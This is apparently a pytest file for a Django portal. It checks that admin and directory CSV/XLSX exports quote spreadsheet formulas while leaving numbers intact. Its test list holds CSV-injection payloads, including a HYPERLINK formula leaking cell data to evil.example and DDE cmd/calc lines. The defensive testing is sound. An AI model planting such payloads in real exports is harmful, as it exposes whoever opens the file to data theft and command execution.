"""Every export a spreadsheet opens (the admin's CSV and XLSX, the directory's CSV) holds text,
never a formula: a cell that a spreadsheet would run is quoted, and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from portal.publishing.spreadsheets import as_typed, formula_safe
from tests.factories import EnterpriseFactory, IndicatorFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "==1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "   +1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x0b=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
]


def export(client, model: str, file_format: str, pks: list[int], fields: list[str]) -> bytes:
    resource = {"enterprise": "enterpriseresource", "indicator": "indicatorresource"}[model]
    app = {"enterprise": "zones", "indicator": "news"}[model]
    response = client.post(
        reverse(f"admin:{app}_{model}_export"),
        {
            "format": file_format,
            "resource": "0",
            "export_items": pks,
            **{f"{resource}_{name}": "on" for name in fields},
        },
    )
    assert response.status_code == 200
    return response.content


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def dangerous(db) -> list:
    return [EnterpriseFactory(name_en=name) for name in FORMULAS]


def test_the_admin_csv_export_quotes_every_formula(editor_client, dangerous):
    content = export(editor_client, "enterprise", "0", [e.pk for e in dangerous], ["name_en"])
    names = [row[0] for row in csv_rows(content)[1:]]
    assert sorted(names) == sorted(f"'{name}" for name in FORMULAS)


def test_the_admin_xlsx_export_holds_no_formula(editor_client, dangerous):
    content = export(editor_client, "enterprise", "1", [e.pk for e in dangerous], ["name_en"])
    cells = xlsx_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    names = [cell.value for cell in cells[1:]]
    assert len(names) == len(FORMULAS)
    assert all(name.startswith("'") for name in names)


def test_numbers_in_the_admin_export_stay_numbers(editor_client):
    figure = IndicatorFactory(value=Decimal("-3.5"))
    content = export(editor_client, "indicator", "0", [figure.pk], ["year", "value"])
    assert csv_rows(content)[1] == ["2023", "-3.5"]
    cells = xlsx_cells(export(editor_client, "indicator", "1", [figure.pk], ["year", "value"]))
    assert [cell.data_type for cell in cells[2:]] == ["n", "n"]
    assert [Decimal(str(cell.value)) for cell in cells[2:]] == [2023, Decimal("-3.5")]


def test_the_directory_csv_quotes_every_formula(visitor, dangerous):
    response = visitor.get(reverse("zones:enterprise_export"))
    names = [row[0] for row in csv_rows(response.getvalue())[1:]]
    assert sorted(names) == sorted(f"'{name}" for name in FORMULAS)


def test_the_directory_xlsx_shows_every_formula_as_typed_and_as_text(visitor, dangerous):
    response = visitor.get(reverse("zones:enterprise_export_xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    # As typed, but for the control characters a workbook cannot hold, and the carriage return
    # that XML reads as a line feed.
    typed = [ILLEGAL_CHARACTERS_RE.sub("\ufffd", name).replace("\r", "\n") for name in FORMULAS]
    assert sorted(cell.value for cell in names) == sorted(typed)
    # Text, marked so that the spreadsheet keeps it text when the cell is edited (all but the
    # one whose vertical tab, replaced, no longer starts a formula).
    assert {cell.data_type for cell in names} == {"s"}
    assert [cell.value for cell in names if not cell.quotePrefix] == ["\ufffd=1+1"]


def test_ordinary_text_in_the_directory_csv_is_left_alone(visitor):
    EnterpriseFactory(name_en="Allychem Co., Ltd.", website="https://allychem.example/")
    row = csv_rows(visitor.get(reverse("zones:enterprise_export")).getvalue())[1]
    assert row[0] == "Allychem Co., Ltd."
    assert row[8] == "https://allychem.example/"


@pytest.mark.parametrize("text", ["   ", "-3.5", "+86", "1e6", "Growth of -3.5%", "a=b"])
def test_blanks_plain_numbers_and_inner_signs_are_left_alone(text):
    assert formula_safe(text) == text


@pytest.mark.parametrize("text", FORMULAS + ["'=1+1", "'90s Fashion", "'", "Allychem"])
def test_an_imported_cell_reads_as_the_text_that_was_exported(text):
    assert as_typed(formula_safe(text)) == text


@pytest.mark.parametrize("text", ["'90s Fashion", "'Quoted' Ltd.", "'", "'-3.5"])
def test_an_apostrophe_that_is_part_of_the_text_stays(text):
    assert as_typed(text) == text


@pytest.mark.django_db
def test_the_admin_export_names_its_columns_in_the_admins_language(editor_client):
    page = editor_client.get(
        reverse("admin:zones_enterprise_export"), headers={"accept-language": "zh-hans"}
    ).content.decode()

    assert "名称 [zh-hans] (name_zh_hans)" in page
    assert "统一社会信用代码 (credit_code)" in page
    assert "Name Zh Hans" not in page
